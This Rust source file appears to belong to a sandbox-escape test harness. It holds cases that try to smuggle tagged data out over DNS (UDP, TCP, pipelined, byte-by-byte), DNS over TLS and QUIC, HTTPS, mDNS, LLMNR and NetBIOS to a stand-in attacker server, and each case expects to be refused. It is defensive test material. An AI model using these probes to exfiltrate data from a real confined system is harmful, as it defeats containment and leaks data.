//! DNS to servers of one's own, and the ports around it.

use std::net::{Ipv4Addr, SocketAddr};
use std::thread::sleep;
use std::time::Duration;

use crate::escape::case::{Case, Refused, Targets, Unrecorded, elsewhere};
use crate::escape::packet::{Dns, dns};
use crate::escape::sys;
use crate::harness::network::{DNS_V4, EVIL_V4, EVIL_V6, at};

type Result = std::result::Result<(), Refused>;

/// What is no question leaves no record but a count.
const LISTENER: &[Unrecorded] = &[elsewhere(
    "connect4",
    "port 53 leads to the job's own listener",
)];

pub(super) const CASES: &[Case] = &[
    Case::new(
        "dns-udp-v4",
        &["G11", "G12", "P14", "P49"],
        "DNS question to the attacker's server, data in the name.",
        |targets| ask_udp(at(EVIL_V4, 53), &question(targets)),
    ),
    Case::new(
        "dns-udp-v6",
        &["G11", "G12"],
        "DNS question to the attacker's server, IPv6.",
        |targets| ask_udp(at(EVIL_V6, 53), &question(targets)),
    ),
    Case::new(
        "dns-udp-answer",
        &["P11"],
        "A DNS message that says it is an answer (QR=1), to the attacker's port 53.",
        |targets| ask_udp(at(EVIL_V4, 53), &message(targets, 0x8180, 1)),
    )
    .stopped_by(LISTENER),
    Case::new(
        "dns-udp-no-question",
        &["P55"],
        "A DNS message whose header says it has no question.",
        |targets| ask_udp(at(EVIL_V4, 53), &message(targets, 0x0100, 0)),
    )
    .stopped_by(LISTENER),
    Case::new(
        "dns-udp-not-dns",
        &["G11"],
        "Something else than DNS to port 53.",
        |targets| ask_udp(at(EVIL_V4, 53), targets.tag().as_bytes()),
    )
    .stopped_by(LISTENER),
    Case::new(
        "dns-host-resolver",
        &["G12", "P27"],
        "A name nobody allowed, asked of the host's own resolver: the resolver would ask the attacker.",
        |targets| ask_udp(at(DNS_V4, 53), &question(targets)),
    ),
    Case::new(
        "dns-tcp-v4",
        &["G11"],
        "DNS over TCP to the attacker's server.",
        |targets| ask_tcp(at(EVIL_V4, 53), &[&framed(targets)]),
    ),
    Case::new(
        "dns-tcp-v6",
        &["G11"],
        "DNS over TCP to the attacker's server, IPv6.",
        |targets| ask_tcp(at(EVIL_V6, 53), &[&framed(targets)]),
    ),
    Case::new(
        "dns-tcp-pipelined",
        &["G11"],
        "Several DNS questions in one TCP segment.",
        |targets| {
            let one = framed(targets);
            ask_tcp(at(EVIL_V4, 53), &[&[&one[..], &one[..], &one[..]].concat()])
        },
    ),
    Case::new(
        "dns-tcp-byte-by-byte",
        &["G11"],
        "A DNS question over TCP, one byte in each segment.",
        |targets| {
            let question = framed(targets);
            let bytes: Vec<&[u8]> = question.chunks(1).collect();
            ask_tcp(at(EVIL_V4, 53), &bytes)
        },
    ),
    Case::new(
        "dot-853",
        &["G11"],
        "DNS over TLS: TCP port 853.",
        |targets| tcp(at(EVIL_V4, 853), targets),
    ),
    Case::new(
        "doq-853",
        &["G11"],
        "DNS over QUIC: UDP port 853.",
        |targets| udp(at(EVIL_V4, 853), targets),
    ),
    Case::new("quic-443", &["G10"], "QUIC: UDP port 443.", |targets| {
        udp(at(EVIL_V4, 443), targets)
    }),
    Case::new(
        "quic-443-v6",
        &["G10"],
        "QUIC: UDP port 443, IPv6.",
        |targets| udp(at(EVIL_V6, 443), targets),
    ),
    Case::new(
        "https-443",
        &["G11"],
        "DNS over HTTPS, or any HTTPS, to the attacker: TCP port 443.",
        |targets| tcp(at(EVIL_V4, 443), targets),
    ),
    Case::new("mdns-5353", &["G11", "G29"], "Multicast DNS.", |targets| {
        udp(at(Ipv4Addr::new(224, 0, 0, 251), 5353), targets)
    }),
    Case::new("llmnr-5355", &["G11", "G29"], "LLMNR.", |targets| {
        udp(at(Ipv4Addr::new(224, 0, 0, 252), 5355), targets)
    }),
    Case::new(
        "netbios-137",
        &["G11"],
        "NetBIOS name service by broadcast.",
        |targets| super::place::broadcast(at(Ipv4Addr::BROADCAST, 137), targets),
    ),
];

fn message(targets: &Targets, flags: u16, questions: u16) -> Vec<u8> {
    dns(Dns {
        flags,
        questions,
        labels: &[&targets.tag(), "evil", "test"],
    })
}

fn question(targets: &Targets) -> Vec<u8> {
    message(targets, 0x0100, 1)
}

/// With its length in front, as TCP has it.
fn framed(targets: &Targets) -> Vec<u8> {
    let question = question(targets);
    let length = u16::try_from(question.len()).unwrap_or_default();
    [&length.to_be_bytes()[..], &question].concat()
}

/// Sends, and waits for an answer that nobody has to give.
fn ask_udp(server: SocketAddr, message: &[u8]) -> Result {
    let socket = sys::socket(family(server), libc::SOCK_DGRAM, 0)?;
    sys::connect(&socket, &sys::address(server))?;
    sys::send(&socket, message, 0).map(drop)?;
    sleep(Duration::from_millis(20));
    Ok(())
}

fn ask_tcp(server: SocketAddr, segments: &[&[u8]]) -> Result {
    let socket = sys::socket(family(server), libc::SOCK_STREAM, 0)?;
    sys::set_int(&socket, libc::IPPROTO_TCP, libc::TCP_NODELAY, 1)?;
    sys::connect(&socket, &sys::address(server))?;
    for segment in segments {
        sys::send(&socket, segment, 0)?;
    }
    sleep(Duration::from_millis(20));
    Ok(())
}

fn tcp(to: SocketAddr, targets: &Targets) -> Result {
    let socket = sys::socket(libc::AF_INET, libc::SOCK_STREAM, 0)?;
    sys::connect(&socket, &sys::address(to))?;
    sys::send(&socket, targets.tag().as_bytes(), 0).map(drop)
}

fn udp(to: SocketAddr, targets: &Targets) -> Result {
    let socket = sys::socket(family(to), libc::SOCK_DGRAM, 0)?;
    sys::sendto(&socket, targets.tag().as_bytes(), 0, &sys::address(to)).map(drop)
}

fn family(to: SocketAddr) -> i32 {
    if to.is_ipv4() {
        libc::AF_INET
    } else {
        libc::AF_INET6
    }
}
